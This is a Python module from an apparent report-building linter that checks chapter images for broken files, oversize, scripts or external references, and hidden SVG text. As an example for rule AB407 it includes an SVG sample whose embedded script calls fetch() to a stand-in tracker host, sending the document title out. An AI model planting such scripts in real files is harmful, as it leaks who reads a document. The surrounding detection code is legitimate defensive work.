"""Image rules: every image a chapter shows is the image its name says, and safe.

The inspection itself is :func:`ambtsbericht_build.load.images.inspect_image`;
this module reports its verdict at the image reference in the chapter.
Targets that AB401 reports (remote, absolute, outside) are left to it; a
missing local target is AB408 (:func:`.content.target_problem` tells them apart).
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TypeAlias
from urllib.parse import unquote

from ..diagnostics import Severity
from ..load import LoadedChapter, LoadedReport
from ..load.images import MAX_IMAGE_BYTES, MAX_PIXELS, ImageError, UnsafeImage, inspect_image
from . import ByChapter, Context, Finding, RuleDoc, Snippet, by_chapter, chapter, rule
from .content import _SCHEME, target_findings

_BAD_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#dde"/>
  <script>fetch("https://tracker.example/?r=" + document.title)</script>
</svg>
"""

_GOOD_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#dde"/>
</svg>
"""

_CHAPTER = """
## Veiligheid {tor="1.2"}

Het noorden is het onveiligste deel van het land.[@hrw-2025]

![Schema van de veiligheidsdiensten van Testland](media/diensten.svg)
"""


# an SVG cut off in the middle: it cannot be read, so it cannot be shown
_BROKEN_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#dde"/>
"""


def _verdicts(ctx: Context) -> list[tuple[Path, int, int, str, ImageError]]:
    """(chapter, line, column, target, problem) for every image a chapter
    shows whose file inspect_image refuses; each file is inspected once per
    check, for AB405 and AB407 together (kept on the context), chapter by
    chapter while pandoc reads (check/__init__.py ByChapter)."""
    cached: list[tuple[Path, int, int, str, ImageError]] | None = getattr(ctx, "_image_verdicts", None)
    if cached is None:
        cached = list(by_chapter(ctx, "AB405", _prepare, _inspect_chapter))
        setattr(ctx, "_image_verdicts", cached)  # noqa: B010 - not a field of Context
    return cached


_Verdicts: TypeAlias = "tuple[LoadedReport, dict[tuple[Path, str], ImageError | None]]"


def _prepare(lr: LoadedReport) -> _Verdicts:
    return lr, {}


def _inspect_chapter(state: _Verdicts, lc: LoadedChapter) -> Iterator[tuple[Path, int, int, str, ImageError]]:
    lr, verdicts = state
    report_dir = lr.dir
    repo = lr.repo
    for link in (link for b in lc.chapter.all_blocks() for link in b.links if link.image):
        if not link.target or _SCHEME.match(link.target):
            continue
        path_part = unquote(link.target.split("#", 1)[0].split("?", 1)[0])
        if not path_part or Path(path_part).is_absolute():
            continue
        full = report_dir / path_part
        if not repo.contains(full) or not full.is_file():
            continue  # AB401 or AB408
        # the name as the chapter writes it: the writers go by its extension
        key = (full.resolve(), Path(path_part).name)
        if key not in verdicts:
            try:
                info = inspect_image(full, key[1])
                verdicts[key] = _hidden_text(full) if info.kind == "svg" else None
            except ImageError as exc:
                verdicts[key] = exc
        problem = verdicts[key]
        if problem is not None:
            yield lc.file, link.line, link.column, link.target, problem


class HiddenText(ImageError):
    """An SVG with text no renderer draws (AB409): removed when published."""


def _hidden_text(path: Path) -> HiddenText | None:
    """What the published SVG loses of its text (the rebuild's own verdict,
    :func:`...publish.image_svg.clean`), or None."""
    from xml.etree import ElementTree as ET

    from ..publish.image_svg import SvgError, clean

    try:
        found = clean(ET.fromstring(path.read_bytes()))
    except (ET.ParseError, SvgError, RecursionError, OSError, ValueError):
        return None  # the render refuses it with a placeholder; AB405 reads it the same way
    why = sorted({m.removeprefix("SVG text that is not drawn ").strip("()") for m in found if m.startswith("SVG text")})
    if not why:
        return None
    return HiddenText(
        f"the SVG has text that is not drawn ({'; '.join(why)}); it is left out of the report."
        " Delete it from the drawing, or show it"
    )


@rule(
    "AB405",
    Severity.ERROR,
    "image file that is not the image its name says, is damaged or too large",
    RuleDoc(
        finds=f"""
        An image a chapter shows whose file is not a PNG, JPEG, GIF or SVG
        image, or not the type its name says (the type is read from the
        content, never from the name: a text file named `.png`, a PNG named
        `.jpg`); a raster image that is damaged or truncated, larger than
        {MAX_IMAGE_BYTES // (1024 * 1024)} MB or with more than
        {MAX_PIXELS:,} pixels (read from its header, before anything is
        decoded); an SVG that cannot be read or that nests its elements
        more than 256 levels deep, or a UTF-16 or compressed (`.svgz`)
        SVG. Reported at the image in the chapter. (An SVG that runs a
        script or loads another file is AB407.)
        """,
        why="""
        A file the PDF cannot show is silently replaced by its alternative
        text: the published report would lack the map the reviewers
        approved. A concept renders with a visible placeholder where the
        figure should be; a final report is refused. An oversized image can
        exhaust the memory of the machine that renders the report.
        """,
        example=(chapter(_CHAPTER), Snippet("media/diensten.svg", _BROKEN_SVG)),
        fix="""
        Export the image again as PNG, JPEG or SVG and give it the matching
        name (`.png`, `.jpg`, `.gif`, `.svg`). Scale a very large image down
        (300 dpi at the printed size is enough).
        """,
        fixed=(Snippet("media/diensten.svg", _GOOD_SVG),),
    ),
    early=lambda lr: ByChapter(lr, _prepare, _inspect_chapter),
)
def bad_image(ctx: Context) -> Iterator[Finding]:
    for file, line, column, target, problem in _verdicts(ctx):
        if not isinstance(problem, (UnsafeImage, HiddenText)):
            yield Finding(file, line, column, f"image {target}: {problem}")


@rule(
    "AB407",
    Severity.ERROR,
    "SVG image that runs a script or loads another file or address",
    RuleDoc(
        finds="""
        An SVG a chapter shows with a `<!DOCTYPE>`, a script, an event
        attribute (`onload=`), a `<foreignObject>`, or a reference to another
        file or address (`href` that is not `#id` or a
        `data:image/png|jpeg|gif` URI, CSS `url(...)` other than `url(#id)`,
        `image-set()`, `@import`, `@font-face`, a CSS escape). Reported at
        the image in the chapter.
        """,
        why="""
        An SVG runs in every reader's browser: a script or an external
        reference could tell a server who reads the report, or change what
        it shows after review. A network reference is a confidentiality
        finding: no render goes ahead, not even of a concept.
        """,
        example=(chapter(_CHAPTER), Snippet("media/diensten.svg", _BAD_SVG)),
        fix="""
        Remove scripts, event attributes and links from the SVG, and embed
        what it uses (fonts as paths, images as `data:` URIs).
        """,
        fixed=(Snippet("media/diensten.svg", _GOOD_SVG),),
    ),
    confidentiality=True,
)
def unsafe_image(ctx: Context) -> Iterator[Finding]:
    for file, line, column, target, problem in _verdicts(ctx):
        if isinstance(problem, UnsafeImage):
            yield Finding(file, line, column, f"image {target}: {problem}")


_HIDDEN_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#dde"/>
  <text x="10" y="50">Politie</text>
  <text x="10" y="80" display="none">Bron: gesprek met de wijkagent, 3 mei</text>
</svg>
"""

_SHOWN_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
  <rect width="200" height="100" fill="#dde"/>
  <text x="10" y="50">Politie</text>
</svg>
"""


@rule(
    "AB409",
    Severity.WARNING,
    "SVG image with text that is not drawn",
    RuleDoc(
        finds="""
        An SVG a chapter shows with text no renderer draws: in an element
        with `display: none` (an attribute, a `style` or a rule of its
        `<style>`), `visibility: hidden` or `opacity: 0`, without fill and
        stroke, with a font size of 0 or too small to see, far outside the
        picture, in a `<symbol>` or `<defs>` nothing uses, or between
        elements outside `<text>`. Reported at the image in the chapter,
        with why the text is not drawn.
        """,
        why="""
        Nobody sees such text when the drawing is reviewed, yet it travels
        with the file: a hidden layer of an Inkscape drawing, a note to a
        colleague, a source. abuild publishes only what is drawn (the text
        is removed from every format), so the published report is safe;
        the warning says the drawing in the repository still holds text
        the reviewers did not see.
        """,
        example=(chapter(_CHAPTER.replace("diensten.svg", "politie.svg")), Snippet("media/politie.svg", _HIDDEN_SVG)),
        fix="""
        Delete the hidden text (or the hidden layer) from the drawing, or
        show it if it belongs in the figure.
        """,
        fixed=(Snippet("media/politie.svg", _SHOWN_SVG),),
    ),
)
def hidden_svg_text(ctx: Context) -> Iterator[Finding]:
    for file, line, column, target, problem in _verdicts(ctx):
        if isinstance(problem, HiddenText):
            yield Finding(file, line, column, f"image {target}: {problem}")


@rule(
    "AB408",
    Severity.ERROR,
    "image or link target inside the repository that does not exist",
    RuleDoc(
        finds="""
        An image or link whose target is a path inside the repository that
        does not exist, an image whose target is a directory, or an image
        without a target (`![Kaart]()`). Targets are relative to the report
        directory. (A remote target, an absolute path or one that leaves the
        repository is AB401.)
        """,
        why="""
        A missing image leaves a hole in the published report, and a link
        to a missing file leads nowhere. Nothing is read or fetched that
        should not be, so a concept still renders (with the image's
        alternative text in its place) for review; a vastgesteld or
        gepubliceerd report is refused until the file is there.
        """,
        example=(chapter(_CHAPTER),),
        fix="""
        Put the file where the chapter says (usually the report's `media/`),
        or correct the path: it is relative to the report directory, and
        upper and lower case count.
        """,
        fixed=(Snippet("media/diensten.svg", _GOOD_SVG),),
    ),
)
def missing_target(ctx: Context) -> Iterator[Finding]:
    yield from target_findings(ctx, "AB408")
